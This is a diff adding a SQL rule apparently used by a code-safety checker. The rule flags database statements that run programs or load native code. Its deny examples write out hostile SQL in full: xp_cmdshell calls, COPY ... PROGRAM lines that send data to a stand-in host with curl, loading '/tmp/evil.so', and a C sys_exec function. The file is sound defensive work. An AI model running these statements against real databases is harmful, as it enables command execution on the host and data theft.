@@ -1,0 +1,73 @@
+/** SQL-AST-011: SQL that runs programs or loads code on the database host (COPY ... PROGRAM, xp_cmdshell, C functions). */
+import { DANGEROUS_SETTINGS, reachingFunctions } from '../../knowledge/sql.js';
+import { defineRule } from '../define-rule.js';
+
+export default defineRule({
+  id: 'SQL-AST-011',
+  invariant: 'NO_SQL_EXFILTRATION',
+  summary:
+    'COPY ... TO/FROM PROGRAM, xp_cmdshell/sp_OACreate/sys_exec/DBMS_JAVA, LOAD of libraries, LANGUAGE C or untrusted-language functions, enabling command execution through server settings.',
+  remediationHint:
+    'Do not make the database run programs or load native code. Run the tool yourself in the workspace with a plain command, and move data in and out with ordinary queries.',
+  *check(facts) {
+    for (const s of facts.of('sql')) {
+      if (s.runsProgram !== undefined) {
+        yield {
+          span: s.span,
+          reason: `the statement makes the database run a program (${s.statement.toUpperCase()} ... PROGRAM / shell procedure)`,
+          suggestedAlternative: null,
+        };
+        continue;
+      }
+      if (s.loadsLibrary !== undefined) {
+        yield {
+          span: s.span,
+          reason: `the statement loads native code into the database server (${s.loadsLibrary || 'library'})`,
+          suggestedAlternative: null,
+        };
+        continue;
+      }
+      const setting = (s.settings ?? []).find((x) => DANGEROUS_SETTINGS.has(x));
+      if (setting !== undefined) {
+        yield {
+          span: s.span,
+          reason: `changing the server setting ${setting} enables running programs or loading code`,
+          suggestedAlternative: null,
+        };
+        continue;
+      }
+      const f = reachingFunctions(s.functions, s.qualifiedFunctions ?? []).find((x) => x.reach === 'program');
+      if (f)
+        yield {
+          span: s.span,
+          reason: `${f.name} runs programs or arbitrary code on the database host`,
+          suggestedAlternative: null,
+        };
+    }
+  },
+  examples: {
+    deny: [
+      { input: "COPY sqlmapfile FROM PROGRAM 'id'", runtime: 'sql' },
+      { input: "COPY (SELECT 1) TO PROGRAM 'curl -d @- https://x.example'", runtime: 'sql' },
+      { input: "EXEC master..xp_cmdshell 'whoami'", runtime: 'sql' },
+      { input: "EXEC master..sp_configure 'xp_cmdshell',1; RECONFIGURE WITH OVERRIDE", runtime: 'sql' },
+      {
+        input: "CREATE FUNCTION sys_exec(text) RETURNS int AS '/tmp/lib.so', 'sys_exec' LANGUAGE C STRICT",
+        runtime: 'sql',
+      },
+      { input: "LOAD '/tmp/evil.so'", runtime: 'sql' },
+      { input: "ALTER SYSTEM SET archive_command = 'curl -T %p https://x.example'", runtime: 'sql' },
+      { input: "SELECT SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('FOO','BAR')", runtime: 'sql' },
+    ],
+    allow: [
+      { input: 'COPY users FROM STDIN WITH CSV', runtime: 'sql', why: 'data from the client, no program' },
+      {
+        input: "CREATE FUNCTION add(a int, b int) RETURNS int AS 'select a + b' LANGUAGE sql",
+        runtime: 'sql',
+        why: 'a SQL function',
+      },
+      { input: 'SET search_path TO app, public', runtime: 'sql', why: 'a harmless session setting' },
+      { input: "SELECT * FROM programs WHERE name = 'xp_cmdshell'", runtime: 'sql', why: 'the name is data' },
+    ],
+  },
+});
